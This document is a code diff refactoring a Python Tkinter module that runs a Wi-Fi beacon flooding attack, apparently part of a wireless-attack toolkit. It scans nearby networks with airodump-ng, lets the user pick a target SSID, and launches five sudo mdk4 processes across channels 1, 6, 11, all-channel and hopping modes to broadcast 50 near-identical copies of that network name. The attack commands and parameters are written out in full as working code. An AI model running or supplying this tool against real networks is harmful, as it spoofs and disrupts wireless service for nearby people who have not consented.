@@ -1,20 +1,49 @@
 import tkinter as tk
 from tkinter import ttk, messagebox
-import subprocess
-import threading
+import asyncio
 import os
-import time
-import tempfile
 import random
 import re
 
 # Change to relative import for better module resolution
 from .utils import DARK_BG, PANEL_BG, TEXT_COLOR, ACCENT_GOLD, HoverButton, WARNING_COLOR
+from .airodump_csv import iter_access_points
+from .process_engine import get_engine
+from .scanner import format_coverage
+from .interfaces import get_registry
+from .list_view import ListView
+from .network_model import NetworkTable, format_network
+from .replay import synthetic_survey
+from .convergence import DiscoveryTracker, SCAN_MAX_TIME, SCAN_CONFIDENCE, format_report, wait_for_csv_convergence
+from .workspace import get_workspace
+from .supervisor import Supervisor, ROLE_ATTACK, ROLE_CAPTURE
 
 class BeaconFloodingAttack:
-    def __init__(self, root=None, return_callback=None):
+    def __init__(self, root=None, return_callback=None, scanner=None, engine=None, replay=None, interfaces=None,
+                 workspace=None, supervisor=None, interface=None):
         self.root = root
         self.return_callback = return_callback
+        # Returns the monitor interface the app switched to, when None the registry's first one is used
+        self.get_interface = interface
+        # External tools are started and torn down on the ProcessEngine loop
+        self.engine = engine or get_engine()
+        # Starts scans and mdk4 with their scheduling policy, each in its own process group
+        self.supervisor = supervisor or Supervisor(self.engine)
+        # Capture output and SSID lists live in the session workspace on tmpfs
+        self.workspace = workspace or get_workspace()
+        # Interface registry, answers the monitor mode check without running ip link
+        self.interfaces = interfaces
+        # Shared BackgroundScanner, when None every scan runs its own capture
+        self.scanner = scanner
+        self.scanner_paused = False
+        
+        # Scan results, the listbox only holds keys into this table
+        self.networks = NetworkTable("bssid", sort_field="power", reverse=True)
+        
+        # Adaptive scans stop once no new BSSIDs show up instead of after a fixed 5 seconds
+        self.adaptive_scan = True
+        self.scan_max_time = SCAN_MAX_TIME
+        self.scan_confidence = SCAN_CONFIDENCE
         
         # Attack state
         self.scanning = False
@@ -22,8 +51,11 @@ class BeaconFloodingAttack:
         self.attack_processes = []
         self.selected_network = None
         
-        # For simulation on non-Linux systems
-        self.is_simulating = os.name != 'posix'
+        # For simulation on non-Linux systems, or when a replay stands in for the radio
+        self.replay = replay
+        self.is_simulating = os.name != 'posix' or replay is not None
+        # Simulated scans are seeded, so a run can be reproduced
+        self.simulation_seed = 1
         self.simulation_networks = [
             "WiFi_Network_1", 
             "HomeRouter123", 
@@ -121,6 +153,9 @@ class BeaconFloodingAttack:
         scrollbar.config(command=self.network_listbox.yview)
         self.network_listbox.config(yscrollcommand=scrollbar.set)
         
+        # Row-level diff rendering on top of the listbox
+        self.list_view = ListView(self.network_listbox, scrollbar)
+        
         # Attack button
         self.attack_btn = HoverButton(
             parent_frame,
@@ -137,7 +172,7 @@ class BeaconFloodingAttack:
         self.attack_btn.place(x=20, y=435, width=400, height=60)
         
         # Bind selection event
-        self.network_listbox.bind("<<ListboxSelect>>", self.on_selection)
+        self.network_listbox.bind("<<ListboxSelect>>", self.on_selection, add="+")
         
         # Add development mode indicator if simulating
         if self.is_simulating:
@@ -157,7 +192,7 @@ class BeaconFloodingAttack:
             
         self.scanning = True
         self.scan_btn.config(state=tk.DISABLED)
-        self.network_listbox.delete(0, tk.END)
+        self.list_view.clear()
         self.status_label.config(text="Scanning for networks...")
         self.network_label.config(text="Available Networks:")
         
@@ -166,23 +201,24 @@ class BeaconFloodingAttack:
         self.choose_btn.config(state=tk.DISABLED)
         self.attack_btn.config(state=tk.DISABLED)
         
-        # Start scan in background thread
-        threading.Thread(target=self.run_scan, daemon=True).start()
+        # Run the scan on the process engine loop
+        self.engine.submit(self.run_scan())
     
-    def run_scan(self):
+    async def run_scan(self):
         """Run the network scan"""
+        process = None
+        scan_prefix = None
         try:
             # For simulation mode on non-Linux
             if self.is_simulating:
-                self.simulate_scan()
+                await self.simulate_scan()
                 return
                 
-            # Check if monitor mode is active (looking for wlan1mon)
-            result = subprocess.run(['ip', 'link'], capture_output=True, text=True)
-            output = result.stdout
-            
-            # Check if monitor mode interface exists
-            if "wlan1mon" not in output:
+            # Check if monitor mode is active on the interface the app switched
+            if self.interfaces is None:
+                self.interfaces = get_registry()
+            interface = self.monitor_interface()
+            if interface is None or not self.interfaces.is_monitor(interface):
                 self.root.after(0, lambda: messagebox.showwarning(
                     "Monitor Mode Required", 
                     "Please enable Monitor Mode from the main page before scanning."
@@ -190,65 +226,65 @@ class BeaconFloodingAttack:
                 self.root.after(0, self.handle_scan_error, "Monitor mode not enabled")
                 return
             
-            # Run airodump-ng to scan for networks
-            process = subprocess.Popen(
-                ["sudo", "airodump-ng", "wlan1mon", "--output-format", "csv", "-w", "temp_scan"],
-                stdout=subprocess.PIPE,
-                stderr=subprocess.PIPE,
-                text=True
-            )
+            # Read the live table instead of starting another capture
+            if self.scanner is not None:
+                await self.read_shared_scan()
+                return
             
-            # Wait for 5 seconds to collect data
-            time.sleep(5)
-            process.terminate()
+            # Run airodump-ng to scan for networks, its curses output is discarded
+            scan_prefix = self.workspace.capture_prefix("scan")
+            scan_file = f"{scan_prefix}-01.csv"
+            process = await self.supervisor.spawn(
+                ["sudo", "airodump-ng", interface, "--output-format", "csv",
+                 "--write-interval", "1", "-w", scan_prefix], ROLE_CAPTURE
+            )
+            if not await process.wait_for_file(scan_file, timeout=10):
+                raise RuntimeError("airodump-ng did not start capturing")
             
-            # Read the CSV file
-            with open("temp_scan-01.csv", "r") as f:
-                lines = f.readlines()
+            report = None
+            if self.adaptive_scan:
+                # Collect data until the set of BSSIDs stops growing
+                tracker = DiscoveryTracker(self.scan_max_time, self.scan_confidence)
+                report = await wait_for_csv_convergence(scan_file, tracker)
+            else:
+                # Wait for 5 seconds to collect data
+                await asyncio.sleep(5)
+            await self.supervisor.terminate(process)
             
-            # Parse network data
-            networks = []
-            for line in lines:
-                if "," in line and "BSSID" not in line and "Station" not in line:
-                    parts = line.strip().split(",")
-                    if len(parts) >= 14:
-                        bssid = parts[0].strip()
-                        channel = parts[3].strip()
-                        signal = parts[8].strip()
-                        ssid = parts[13].strip()
-                        if bssid and ssid:
-                            networks.append((ssid, bssid, channel, signal))
+            # Parse network data from the CSV file
+            networks = [ap for ap in iter_access_points(scan_file) if ap.essid]
             
             # Update UI with found networks
-            self.root.after(0, self.update_network_list, networks)
+            self.root.after(0, self.update_network_list, networks, report)
             
         except Exception as e:
             self.root.after(0, self.handle_scan_error, str(e))
         finally:
             # Clean up
-            try:
-                os.remove("temp_scan-01.csv")
-            except:
-                pass
+            await self.supervisor.terminate(process)
+            if scan_prefix is not None:
+                self.workspace.remove(os.path.dirname(scan_prefix))
             self.scanning = False
             self.root.after(0, self.scan_btn.config, {"state": tk.NORMAL})
             
-    def simulate_scan(self):
+    async def simulate_scan(self):
         """Simulate network scanning for development on non-Linux systems"""
-        # Pause to simulate scanning activity
-        time.sleep(2)
+        # A replay runs through the shared scanner like a real capture
+        if self.replay is not None and self.scanner is not None:
+            await self.read_shared_scan()
+            self.scanning = False
+            self.root.after(0, self.scan_btn.config, {"state": tk.NORMAL})
+            return
         
-        # Randomly select 4-8 networks from the simulation list
-        num_networks = random.randint(4, 8)
-        network_data = []
+        # Pause to simulate scanning activity
+        await asyncio.sleep(2)
         
-        # Create simulated network data with BSSID, channel, and signal
-        for i in range(num_networks):
-            ssid = random.choice(self.simulation_networks)
-            bssid = ':'.join([f'{random.randint(0, 255):02X}' for _ in range(6)])
-            channel = str(random.randint(1, 11))
-            signal = str(random.randint(-90, -30))
-            network_data.append((ssid, bssid, channel, signal))
+        # 4-8 networks named from the simulation list, from a seeded survey
+        rng = random.Random(self.simulation_seed)
+        survey = synthetic_survey(rng.randint(4, 8), 0, seed=self.simulation_seed,
+                                  essids=self.simulation_networks)
+        self.simulation_seed += 1
+        network_data = survey.access_points
         
         # Update UI with simulated networks
         self.root.after(0, self.update_network_list, network_data)
@@ -260,12 +296,33 @@ class BeaconFloodingAttack:
         self.scanning = False
         self.root.after(0, self.scan_btn.config, {"state": tk.NORMAL})
             
-    def update_network_list(self, networks):
-        """Update the network list with found networks"""
-        self.network_listbox.delete(0, tk.END)
-        for network in networks:
-            self.network_listbox.insert(tk.END, f"{network[0]} ({network[1]}) - Ch:{network[2]}")
-        self.status_label.config(text=f"Found {len(networks)} networks")
+    async def read_shared_scan(self):
+        """Read the networks from the shared background scanner"""
+        # Only the first scan after monitor mode comes up waits for airodump-ng's first write
+        await self.scanner.start_async()
+        if not await self.scanner.wait_for_data(timeout=5):
+            raise RuntimeError("no data from scanner yet, try again")
+        
+        report = None
+        if self.adaptive_scan:
+            report = await self.scanner.wait_for_convergence(self.scan_max_time, self.scan_confidence)
+        if len(self.scanner.captures) > 1:
+            for line in format_coverage(self.scanner.coverage()):
+                print(line)
+        
+        # Update UI with found networks
+        self.root.after(0, self.update_network_list, self.scanner.networks(), report)
+            
+    def update_network_list(self, networks, report=None):
+        """Update the network list with found AccessPoint records"""
+        self.networks.load(networks)
+        self.list_view.set_rows(self.networks.rows(format_network))
+        
+        if report is None:
+            self.status_label.config(text=f"Found {len(networks)} networks")
+        else:
+            self.status_label.config(text=f"Found {len(networks)} networks ({format_report(report)})")
+            print(f"Scan finished in {report.duration:.1f}s with {report.total} BSSIDs, discovery curve: {report.curve}")
         
     def handle_scan_error(self, error):
         """Handle scan errors"""
@@ -275,7 +332,7 @@ class BeaconFloodingAttack:
     
     def on_selection(self, event):
         """Handle selection in the list window"""
-        selection = self.network_listbox.curselection()
+        selection = self.list_view.selected_keys()
         if not selection:
             return
             
@@ -283,10 +340,10 @@ class BeaconFloodingAttack:
         if self.attacking:
             return
             
-        selected_text = self.network_listbox.get(selection[0])
-        # Extract network name from the selected text (everything before the parenthesis)
-        if "(" in selected_text:
-            self.selected_network = selected_text[:selected_text.find("(")].strip()
+        # The selected key points into the network table
+        ap = self.networks.get(selection[0])
+        if ap is not None:
+            self.selected_network = ap.essid
             self.status_label.config(text=f"Selected network: {self.selected_network}")
             self.choose_btn.config(state=tk.NORMAL)
         
@@ -298,9 +355,8 @@ class BeaconFloodingAttack:
         
         try:
             # Create a temp file to store the selected network info
-            self.network_info_file = tempfile.mktemp(prefix="beacon_target_")
-            with open(self.network_info_file, "w") as f:
-                f.write(f"SSID: {self.selected_network}\n")
+            self.workspace.remove(getattr(self, 'network_info_file', None))
+            self.network_info_file = self.workspace.file("beacon_target", f"SSID: {self.selected_network}\n")
             
             # Update status and enable attack button
             self.status_label.config(text=f"Target selected: {self.selected_network}")
@@ -327,13 +383,13 @@ class BeaconFloodingAttack:
             # Update the network label
             self.network_label.config(text="Flooding Status:")
             
-            # Start attack in background thread
-            threading.Thread(target=self.run_attack, daemon=True).start()
+            # Start the attack on the process engine loop
+            self.engine.submit(self.run_attack())
         else:
             # Stop the attack
             self.stop_attack()
         
-    def run_attack(self):
+    async def run_attack(self):
         """Run the beacon flooding attack using multiple mdk4 processes"""
         try:
             # Read the selected network from the temp file
@@ -346,9 +402,9 @@ class BeaconFloodingAttack:
                     ssid = self.selected_network
             
             # Clear the listbox to display attack status
-            self.root.after(0, self.network_listbox.delete, 0, tk.END)
-            self.root.after(0, lambda: self.network_listbox.insert(tk.END, f"Starting beacon flooding with target: {ssid}"))
-            self.root.after(0, lambda: self.network_listbox.insert(tk.END, "Creating 50 copies of the target network..."))
+            self.root.after(0, self.list_view.clear)
+            self.root.after(0, lambda: self.list_view.append(f"Starting beacon flooding with target: {ssid}"))
+            self.root.after(0, lambda: self.list_view.append("Creating 50 copies of the target network..."))
             
             # Update UI with status
             self.root.after(0, self.status_label.config, 
@@ -359,97 +415,82 @@ class BeaconFloodingAttack:
             
             # Create 5 temp files with 10 AP names each
             for group in range(5):
-                temp_path = tempfile.mktemp()
-                self.temp_file_paths.append(temp_path)
-                
-                with open(temp_path, "w") as f:
-                    for i in range(10):
-                        # Add a small, non-visible suffix to ensure uniqueness while maintaining 
-                        # visual consistency (most WiFi clients will show the same name)
-                        suffix = "" if group == 0 and i == 0 else f"_{group}{i}"
-                        f.write(f"{ssid}{suffix}\n")
+                # Add a small, non-visible suffix to ensure uniqueness while maintaining 
+                # visual consistency (most WiFi clients will show the same name)
+                names = [ssid + ("" if group == 0 and i == 0 else f"_{group}{i}") for i in range(10)]
+                self.temp_file_paths.append(self.workspace.file("ssids", "".join(f"{name}\n" for name in names)))
             
             if self.is_simulating:
                 # Simulate attack for development
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "SIMULATION MODE: Attack would run on a real device"))
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, ""))
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "--- Flooding Details ---"))
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, f"Target: {ssid}"))
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "Method: 5 separate mdk4 processes"))
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "Process 1: All channels, beacon rate 100/sec"))
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "Process 2: Channel 1, beacon rate 50/sec"))
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "Process 3: Channel 6, beacon rate 50/sec"))
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "Process 4: Channel 11, beacon rate 50/sec"))
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "Process 5: Channel hopping, beacon rate 80/sec"))
+                self.root.after(0, lambda: self.list_view.append("SIMULATION MODE: Attack would run on a real device"))
+                self.root.after(0, lambda: self.list_view.append(""))
+                self.root.after(0, lambda: self.list_view.append("--- Flooding Details ---"))
+                self.root.after(0, lambda: self.list_view.append(f"Target: {ssid}"))
+                self.root.after(0, lambda: self.list_view.append("Method: 5 separate mdk4 processes"))
+                self.root.after(0, lambda: self.list_view.append("Process 1: All channels, beacon rate 100/sec"))
+                self.root.after(0, lambda: self.list_view.append("Process 2: Channel 1, beacon rate 50/sec"))
+                self.root.after(0, lambda: self.list_view.append("Process 3: Channel 6, beacon rate 50/sec"))
+                self.root.after(0, lambda: self.list_view.append("Process 4: Channel 11, beacon rate 50/sec"))
+                self.root.after(0, lambda: self.list_view.append("Process 5: Channel hopping, beacon rate 80/sec"))
                 
                 # Start simulated countdown
                 self.simulate_attack_progress()
             else:
-                # Start 5 separate mdk4 processes with different parameters for better visibility
-                self.attack_processes = []
-                
-                # Process 1: Use all channels with high speed
-                process1 = subprocess.Popen(
-                    ["sudo", "mdk4", "wlan1mon", "b", "-f", self.temp_file_paths[0], "-a", "-s", "100"],
-                    stdout=subprocess.DEVNULL,
-                    stderr=subprocess.DEVNULL
-                )
-                self.attack_processes.append(process1)
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "Started process 1: All channels, high rate"))
-                
-                # Add a small delay between process starts
-                time.sleep(0.5)
-                
-                # Process 2: Use channel 1 (common channel)
-                process2 = subprocess.Popen(
-                    ["sudo", "mdk4", "wlan1mon", "b", "-f", self.temp_file_paths[1], "-c", "1", "-s", "50"],
-                    stdout=subprocess.DEVNULL,
-                    stderr=subprocess.DEVNULL
-                )
-                self.attack_processes.append(process2)
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "Started process 2: Channel 1"))
-                
-                time.sleep(0.5)
-                
-                # Process 3: Use channel 6 (common channel)
-                process3 = subprocess.Popen(
-                    ["sudo", "mdk4", "wlan1mon", "b", "-f", self.temp_file_paths[2], "-c", "6", "-s", "50"],
-                    stdout=subprocess.DEVNULL,
-                    stderr=subprocess.DEVNULL
-                )
-                self.attack_processes.append(process3)
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "Started process 3: Channel 6"))
-                
-                time.sleep(0.5)
+                interface = self.monitor_interface()
+                if interface is None:
+                    raise RuntimeError("no monitor interface, enable Monitor Mode first")
                 
-                # Process 4: Use channel 11 (common channel)
-                process4 = subprocess.Popen(
-                    ["sudo", "mdk4", "wlan1mon", "b", "-f", self.temp_file_paths[3], "-c", "11", "-s", "50"],
-                    stdout=subprocess.DEVNULL,
-                    stderr=subprocess.DEVNULL
-                )
-                self.attack_processes.append(process4)
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "Started process 4: Channel 11"))
+                # mdk4 sets its own channels, so the shared scanner has to let go of the interface
+                if self.scanner is not None and not self.scanner_paused:
+                    self.scanner_paused = True
+                    await self.scanner.pause_async()
                 
-                time.sleep(0.5)
+                # Start 5 separate mdk4 processes with different parameters for better visibility:
+                # all channels at a high rate, the common channels 1, 6 and 11, and channel hopping
+                variants = [
+                    (["-a", "-s", "100"], "All channels, high rate"),
+                    (["-c", "1", "-s", "50"], "Channel 1"),
+                    (["-c", "6", "-s", "50"], "Channel 6"),
+                    (["-c", "11", "-s", "50"], "Channel 11"),
+                    (["-g", "-s", "80"], "Channel hopping"),
+                ]
+                started = self.attack_processes = []
+                for number, (options, label) in enumerate(variants, 1):
+                    if number > 1:
+                        # Add a small delay between process starts
+                        await asyncio.sleep(0.5)
+                    # stop_attack() has already resumed the scanner on this interface and removed the
+                    # SSID files, so nothing more is started once flooding was stopped
+                    if not self.attacking:
+                        return
+                    process = await self.supervisor.spawn(
+                        ["sudo", "mdk4", interface, "b", "-f", self.temp_file_paths[number - 1]] + options,
+                        ROLE_ATTACK
+                    )
+                    if not self.attacking:
+                        # Stopped while this one was starting, after the teardown took the list
+                        await self.supervisor.terminate(process)
+                        return
+                    started.append(process)
+                    self.root.after(0, lambda number=number, label=label:
+                                    self.list_view.append(f"Started process {number}: {label}"))
                 
-                # Process 5: Custom approach with different parameters
-                process5 = subprocess.Popen(
-                    ["sudo", "mdk4", "wlan1mon", "b", "-f", self.temp_file_paths[4], "-g", "-s", "80"],
-                    stdout=subprocess.DEVNULL,
-                    stderr=subprocess.DEVNULL
-                )
-                self.attack_processes.append(process5)
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "Started process 5: Channel hopping"))
-                
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, ""))
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "Attack running..."))
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "50 duplicate networks should be visible now"))
-                self.root.after(0, lambda: self.network_listbox.insert(tk.END, "Press 'Stop Flooding' to terminate the attack"))
+                self.root.after(0, lambda: self.list_view.append(""))
+                self.root.after(0, lambda: self.list_view.append("Attack running..."))
+                self.root.after(0, lambda: self.list_view.append("50 duplicate networks should be visible now"))
+                self.root.after(0, lambda: self.list_view.append("Press 'Stop Flooding' to terminate the attack"))
                 
         except Exception as e:
             self.root.after(0, self.handle_attack_error, str(e))
             
+    def monitor_interface(self):
+        """Name of the monitor interface to scan and flood on, None when there is none"""
+        name = self.get_interface() if self.get_interface is not None else None
+        if name is None:
+            monitors = (self.interfaces or get_registry()).monitor_interfaces()
+            name = monitors[0].name if monitors else None
+        return name
+        
     def simulate_attack_progress(self):
         """Simulate attack progress for UI testing in development mode"""
         if not self.attacking:
@@ -468,17 +509,10 @@ class BeaconFloodingAttack:
             
             time_text = f"Attack running for {minutes:02d}:{seconds:02d}"
             
-            found = False
-            for i in range(self.network_listbox.size()):
-                if "Attack running for" in self.network_listbox.get(i):
-                    self.network_listbox.delete(i)
-                    self.network_listbox.insert(i, time_text)
-                    found = True
-                    break
-                    
-            if not found:
-                self.network_listbox.insert(tk.END, "")
-                self.network_listbox.insert(tk.END, time_text)
+            # The timer row is keyed, so updating it is a lookup instead of a scan
+            if not self.list_view.update("attack_timer", time_text):
+                self.list_view.append("")
+                self.list_view.append(time_text, key="attack_timer")
                 
             # Schedule next update if still attacking
             if self.attacking:
@@ -498,40 +532,32 @@ class BeaconFloodingAttack:
         self.status_label.config(text="Flooding stopped")
         
         # Clear the listbox
-        self.network_listbox.delete(0, tk.END)
-        
-        # Stop all attack processes
-        if hasattr(self, 'attack_processes') and self.attack_processes:
-            for process in self.attack_processes:
-                try:
-                    process.terminate()
-                except:
-                    pass
-            self.attack_processes = []
-            
-        # Also try to kill all mdk4 processes
-        if not self.is_simulating:
-            try:
-                subprocess.run(["sudo", "killall", "mdk4"], 
-                            stdout=subprocess.DEVNULL, 
-                            stderr=subprocess.DEVNULL)
-            except:
-                pass
+        self.list_view.clear()
+        
+        # Stop our own mdk4 process groups, then hand the interface back to the shared scanner
+        self.engine.submit(self.teardown(self.attack_processes, self.scanner_paused))
+        self.attack_processes = []
+        self.scanner_paused = False
         
         # Clean up temporary files
         try:
             if hasattr(self, 'temp_file_paths'):
                 for path in self.temp_file_paths:
-                    if os.path.exists(path):
-                        os.remove(path)
+                    self.workspace.remove(path)
                 self.temp_file_paths = []
                 
-            if hasattr(self, 'network_info_file') and os.path.exists(self.network_info_file):
-                os.remove(self.network_info_file)
+            if hasattr(self, 'network_info_file'):
+                self.workspace.remove(self.network_info_file)
                 delattr(self, 'network_info_file')
         except Exception as e:
             print(f"Error cleaning up temp files: {e}")
         
+    async def teardown(self, processes, resume_scanner):
+        """Terminate every mdk4 process group and resume the shared scanner afterwards"""
+        await asyncio.gather(*(self.supervisor.terminate(p) for p in processes), return_exceptions=True)
+        if resume_scanner:
+            await self.scanner.resume_async()
+        
     def handle_attack_error(self, error):
         """Handle attack errors"""
         self.status_label.config(text=f"Attack error: {error}")